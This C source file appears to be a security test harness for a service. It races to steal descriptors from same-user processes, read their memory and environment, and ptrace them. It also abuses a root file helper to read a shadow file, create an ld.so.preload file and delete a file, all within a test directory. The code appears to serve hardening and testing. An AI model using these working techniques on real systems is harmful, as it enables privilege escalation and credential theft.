/*
 * breakout.c - a process of the service user that tries to get into the others.
 *
 * usage: breakout [-s SECONDS] [-e DIRECTORY] [-x PID]... NAME
 *
 * The kernel lets a process take the descriptors of any other one of the same user, read its
 * memory, and steer it, unless that one is not dumpable or has a capability more. All of this is
 * tried, again and again, at each process of our user whose program has a name that begins with
 * NAME. Such a process may be open only between exec() and the first lines of its main(), so
 * descriptors are tried at all of them within microseconds, at new ones as soon as they can be
 * seen.
 *
 *   -s  ends by itself after so long
 *   -e  a descriptor that leads to "tcpproxy: files" is used, in the words of its first version, to
 * read DIRECTORY/shadow, to create DIRECTORY/sub/ld.so.preload, and to remove DIRECTORY/sub/victim
 *   -x  leaves this process alone
 *
 * A success is a line on stdout, its fields between tabs: PID TITLE HOW DETAIL. What works is told
 * once for each process and way. A line on stdin asks for one more try of everything at everybody;
 * its answer is "looked: PID PID ...". The end of stdin, or SIGTERM, ends the program. Exit status
 * 1: something worked.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_TARGETS  256
#define MAX_SPARED   16
#define MAX_FDS      128
#define NEWEST       8  /* pids that are looked at each time: a pid is there before its process can be seen */
#define SCAN_MS      20 /* between looks at all: one of root's may have become one of our user */
#define ANSWER_MS    500
#define STOP_MS      1000
#define COMM_MAX     15 /* the kernel cuts names of programs */
#define FLAG_EXITING 0x4

enum way { DESCRIPTORS, FD_LINKS, ENVIRONMENT, MEMORY, VM_READ, SEIZE, FILES_HELPER, WAYS };

static const char *const way_names[WAYS] = {
        [DESCRIPTORS] = "pidfd_getfd",     [FD_LINKS] = "/proc/PID/fd",    [ENVIRONMENT] = "/proc/PID/environ",
        [MEMORY] = "/proc/PID/mem",        [VM_READ] = "process_vm_readv", [SEIZE] = "PTRACE_SEIZE",
        [FILES_HELPER] = "asks the files",
};

struct target {
	pid_t pid;
	unsigned long long started; /* a pid may be that of another process later */
	int pidfd;
	bool told[WAYS];
};

struct look { /* what anybody may know of a process */
	char comm[64];
	char state;
	pid_t parent;
	unsigned flags;
	unsigned long long started;
};

static struct target targets[MAX_TARGETS];
static int n_targets;
static pid_t spared[MAX_SPARED];
static int n_spared;
static const char *name, *prey;
static unsigned long n_processes, n_tries, n_successes;
static volatile sig_atomic_t over;

static int64_t now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (int64_t)t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* ---- which processes? ---- */

static ssize_t read_proc(pid_t pid, const char *what, char *buf, size_t size)
{
	char path[64];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	n = read(fd, buf, size - 1);
	close(fd);
	buf[n > 0 ? n : 0] = '\0';
	return n;
}

static bool look_at(pid_t pid, struct look *ret)
{
	char text[1024], *open, *close;

	if (read_proc(pid, "stat", text, sizeof(text)) <= 0)
		return false;
	open = strchr(text, '(');
	close = strrchr(text, ')');
	if (!open || !close || close < open)
		return false;
	*close = '\0';
	snprintf(ret->comm, sizeof(ret->comm), "%s", open + 1);
	return sscanf(close + 2, "%c %d %*d %*d %*d %*d %u %*u %*u %*u %*u %*u %*u %*d %*d %*d %*d %*d %*d %llu",
	              &ret->state, &ret->parent, &ret->flags, &ret->started) == 4;
}

/* Its memory may be gone, and older kernels do not know any more that it was not dumpable. That is their matter. */
static bool is_ending(const struct look *l)
{
	return l->state == 'Z' || l->state == 'X' || (l->flags & FLAG_EXITING);
}

static bool has_name(const struct look *l)
{
	size_t len = strlen(name);

	return strncmp(l->comm, name, len < COMM_MAX ? len : COMM_MAX) == 0;
}

/* Executed as /proc/self/exe, or by a descriptor: the kernel's name for it says nothing then. */
static bool has_no_name(const struct look *l)
{
	return strcmp(l->comm, "exe") == 0 || strspn(l->comm, "0123456789") == strlen(l->comm);
}

static struct target *find(pid_t pid)
{
	for (int i = 0; i < n_targets; i++)
		if (targets[i].pid == pid)
			return &targets[i];
	return NULL;
}

static void drop(struct target *t)
{
	close(t->pidfd);
	*t = targets[--n_targets];
}

static bool is_spared(pid_t pid)
{
	for (int i = 0; i < n_spared; i++)
		if (spared[i] == pid)
			return true;
	return pid == getpid();
}

static void add(pid_t pid, const struct look *l)
{
	int pidfd = n_targets < MAX_TARGETS ? (int)syscall(SYS_pidfd_open, pid, 0) : -1;

	if (pidfd < 0)
		return;
	targets[n_targets++] = (struct target){.pid = pid, .started = l->started, .pidfd = pidfd};
	n_processes++;
}

static void consider(pid_t pid, bool named)
{
	struct look l;
	struct stat st;
	char path[32];

	snprintf(path, sizeof(path), "/proc/%d", pid);
	if (stat(path, &st) < 0 || st.st_uid != geteuid() || is_spared(pid) || find(pid) || !look_at(pid, &l) ||
	    is_ending(&l))
		return;
	if (has_name(&l) || (has_no_name(&l) && (named || find(l.parent))))
		add(pid, &l);
}

/* Asked after each success: a child of the spawner looks like it, and has a handler in its place a
 * moment later. */
static bool is_still_ours(const struct target *t)
{
	struct look l;

	return look_at(t->pid, &l) && l.started == t->started && !is_ending(&l) && (has_name(&l) || has_no_name(&l));
}

static void scan(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	while (d && (e = readdir(d)))
		if (isdigit((unsigned char)e->d_name[0]))
			consider(atoi(e->d_name), false);
	if (d)
		closedir(d);
}

static void consider_newest(void)
{
	static int fd = -1;
	char text[128], *last;
	ssize_t n;

	if (fd < 0)
		fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
	n = pread(fd, text, sizeof(text) - 1, 0);
	text[n > 0 ? n : 0] = '\0';
	last = strrchr(text, ' ');
	for (int i = 0; last && i < NEWEST; i++)
		consider(atoi(last) - i, false);
}

/* ---- telling ---- */

static void tell(struct target *t, enum way way, const char *fmt, ...)
{
	char title[80];
	ssize_t n = read_proc(t->pid, "cmdline", title, sizeof(title));
	va_list ap;

	while (n > 0 && !title[n - 1])
		n--;
	for (ssize_t i = 0; i < n; i++)
		if (iscntrl((unsigned char)title[i]))
			title[i] = ' ';
	title[n > 0 ? n : 0] = '\0';
	t->told[way] = true;
	n_successes++;
	printf("%d\t%s\t%s\t", t->pid, title, way_names[way]);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	putchar('\n');
	fflush(stdout);
}

/* ---- the damage: what can be done with the socket of the helper for root's files ---- */

struct wish { /* version 1 of src/files/files.c */
	uint32_t version;
	uint32_t verb; /* 0: read, 1: open as a log, 2: remove */
	char path[4096];
};

static bool leads_to_files(int fd)
{
	struct ucred cred;
	int type = 0, domain = 0;
	socklen_t len = sizeof(int), cred_len = sizeof(cred);

	/* the only pair that is made while the supervisor still is root */
	return getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len) == 0 && type == SOCK_SEQPACKET &&
	       getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &len) == 0 && domain == AF_UNIX &&
	       getsockopt(fd, SOL_SOCKET, SO_PEERCRED, &cred, &cred_len) == 0 && cred.uid == 0;
}

/* The answer, 0 or -errno; *ret is the descriptor that came with it, or -1. */
static int ask_files(int fd, uint32_t verb, const char *file, int *ret)
{
	static struct wish w;
	union {
		struct cmsghdr header;
		char bytes[CMSG_SPACE(sizeof(int))];
	} control;
	int answer = -EPROTO;
	struct iovec iov = {&answer, sizeof(answer)};
	struct msghdr msg = {
	        .msg_iov = &iov, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control)};
	struct pollfd p = {.fd = fd, .events = POLLIN};
	struct cmsghdr *c;

	*ret = -1;
	w = (struct wish){.version = 1, .verb = verb};
	snprintf(w.path, sizeof(w.path), "%s/%s", prey, file);
	if (send(fd, &w, sizeof(w), MSG_DONTWAIT | MSG_NOSIGNAL) < 0 || poll(&p, 1, ANSWER_MS) != 1 ||
	    recvmsg(fd, &msg, MSG_DONTWAIT | MSG_CMSG_CLOEXEC) != sizeof(answer))
		return -EIO;
	c = CMSG_FIRSTHDR(&msg);
	if (c && c->cmsg_type == SCM_RIGHTS)
		memcpy(ret, CMSG_DATA(c), sizeof(int));
	return answer;
}

static void use_files(struct target *t, int files)
{
	char text[32] = "";
	int fd, rc;

	t->told[FILES_HELPER] = true;
	rc = ask_files(files, 0, "shadow", &fd);
	if (fd >= 0) {
		text[fread(text, 1, sizeof(text) - 1, fdopen(fd, "r"))] = '\0';
		text[strcspn(text, "\n")] = '\0';
	}
	if (rc == 0)
		tell(t, FILES_HELPER, "it reads shadow: %s", text);
	rc = ask_files(files, 1, "sub/ld.so.preload", &fd);
	if (rc == 0)
		tell(t, FILES_HELPER, "it creates sub/ld.so.preload");
	if (fd >= 0)
		close(fd);
	if (ask_files(files, 2, "sub/victim", &fd) == 0)
		tell(t, FILES_HELPER, "it removes sub/victim");
}

/* ---- the ways in ---- */

/* false: it is gone, or is none of ours any more. */
static bool take_descriptors(struct target *t)
{
	char link[64], to[64] = "";
	int fds[MAX_FDS], n = 0, err = 0;

	for (int i = 0; i < MAX_FDS && (err == 0 || err == EBADF); i++) {
		int fd = (int)syscall(SYS_pidfd_getfd, t->pidfd, i, 0);

		n_tries++;
		err = fd < 0 ? errno : 0;
		if (fd >= 0)
			fds[n++] = fd;
	}
	if (n > 0 && is_still_ours(t)) {
		if (!t->told[DESCRIPTORS]) {
			snprintf(link, sizeof(link), "/proc/self/fd/%d", fds[0]);
			if (readlink(link, to, sizeof(to) - 1) < 0)
				to[0] = '\0';
			tell(t, DESCRIPTORS, "%d descriptors, the first %s", n, to);
		}
		for (int i = 0; i < n && prey && !t->told[FILES_HELPER]; i++)
			if (leads_to_files(fds[i]))
				use_files(t, fds[i]);
	} else if (n > 0) {
		err = ESRCH;
	}
	for (int i = 0; i < n; i++)
		close(fds[i]);
	return err != ESRCH;
}

static void follow_fd_links(struct target *t)
{
	char path[64], link[400], to[64];
	struct dirent *e;
	ssize_t n;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%d/fd", t->pid);
	n_tries++;
	d = opendir(path);
	while (d && (e = readdir(d)) && !t->told[FD_LINKS]) {
		int fd;

		if (!isdigit((unsigned char)e->d_name[0]))
			continue;
		n_tries++;
		snprintf(link, sizeof(link), "%s/%s", path, e->d_name);
		n = readlink(link, to, sizeof(to) - 1);
		fd = open(link, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
		if (fd >= 0)
			close(fd);
		if (n < 0 || !is_still_ours(t))
			continue;
		to[n] = '\0';
		tell(t, FD_LINKS, "%s is %s%s", e->d_name, to, fd >= 0 ? ", and opened" : "");
	}
	if (d)
		closedir(d);
}

static void read_environment(struct target *t)
{
	char text[64];

	n_tries++;
	if (read_proc(t->pid, "environ", text, sizeof(text)) > 0 && is_still_ours(t))
		tell(t, ENVIRONMENT, "%s", text);
}

/* Opening it is what needs the right; what stands there is of no interest. */
static void open_memory(struct target *t)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", t->pid);
	n_tries++;
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return;
	close(fd);
	if (is_still_ours(t))
		tell(t, MEMORY, "opened for writing");
}

/* EFAULT is a success, too: we may read there, and the address, which is one of ours, was wrong. */
static void read_memory(struct target *t)
{
	char byte;
	struct iovec here = {&byte, 1}, there = {targets, 1};

	n_tries++;
	if ((process_vm_readv(t->pid, &here, 1, &there, 1, 0) == 1 || errno == EFAULT) && is_still_ours(t))
		tell(t, VM_READ, "it is allowed");
}

/* Only who has stopped can be let go. */
static void let_go(pid_t pid)
{
	int64_t until = now_ms() + STOP_MS;
	int status;

	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	while (waitpid(pid, &status, WNOHANG | __WALL) == 0 && now_ms() < until)
		usleep(100);
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void seize(struct target *t)
{
	n_tries++;
	if (ptrace(PTRACE_SEIZE, t->pid, 0, 0) < 0)
		return;
	if (is_still_ours(t))
		tell(t, SEIZE, "it could be steered");
	let_go(t->pid);
}

static void try_the_rest(struct target *t)
{
	static void (*const ways[])(struct target *) = {
	        [FD_LINKS] = follow_fd_links,
	        [ENVIRONMENT] = read_environment,
	        [MEMORY] = open_memory,
	        [VM_READ] = read_memory,
	        [SEIZE] = seize,
	};

	for (enum way w = FD_LINKS; w <= SEIZE; w++)
		if (!t->told[w])
			ways[w](t);
}

/* ---- */

/* The descriptors of all, as quickly as can be; then one of them gets everything else. */
static void attack(void)
{
	static unsigned turn;

	for (int i = n_targets - 1; i >= 0; i--)
		if (!take_descriptors(&targets[i]))
			drop(&targets[i]);
	if (n_targets > 0)
		try_the_rest(&targets[turn++ % (unsigned)n_targets]);
}

static void attack_all(void)
{
	scan();
	for (int i = n_targets - 1; i >= 0; i--) {
		if (take_descriptors(&targets[i]))
			try_the_rest(&targets[i]);
		else
			drop(&targets[i]);
	}
	printf("looked:");
	for (int i = 0; i < n_targets; i++)
		printf(" %d", targets[i].pid);
	putchar('\n');
	fflush(stdout);
}

static void hear(void)
{
	struct pollfd p = {.fd = STDIN_FILENO, .events = POLLIN};
	char text[64];
	ssize_t n;

	if (poll(&p, 1, 0) != 1)
		return;
	n = read(STDIN_FILENO, text, sizeof(text) - 1);
	if (n <= 0) {
		over = 1;
		return;
	}
	text[n] = '\0';
	if (isdigit((unsigned char)text[0]))
		consider(atoi(text), true);
	attack_all();
}

static void stop(int sig)
{
	(void)sig;
	over = 1;
}

static _Noreturn void usage(void)
{
	fprintf(stderr, "usage: breakout [-s SECONDS] [-e DIRECTORY] [-x PID]... NAME\n");
	exit(2);
}

int main(int argc, char **argv)
{
	int64_t end_ms = INT64_MAX, next_scan_ms = 0;
	int c;

	while ((c = getopt(argc, argv, "s:e:x:")) >= 0) {
		if (c == 's')
			end_ms = now_ms() + (int64_t)(atof(optarg) * 1000);
		else if (c == 'e')
			prey = optarg;
		else if (c == 'x' && n_spared < MAX_SPARED)
			spared[n_spared++] = atoi(optarg);
		else
			usage();
	}
	if (optind != argc - 1)
		usage();
	name = argv[optind];
	sigaction(SIGTERM, &(struct sigaction){.sa_handler = stop}, NULL);
	while (!over && now_ms() < end_ms) {
		if (now_ms() >= next_scan_ms) {
			scan();
			next_scan_ms = now_ms() + SCAN_MS;
		}
		consider_newest();
		attack();
		hear();
	}
	printf("looked at %lu processes, %lu tries, %lu successes\n", n_processes, n_tries, n_successes);
	return n_successes > 0;
}
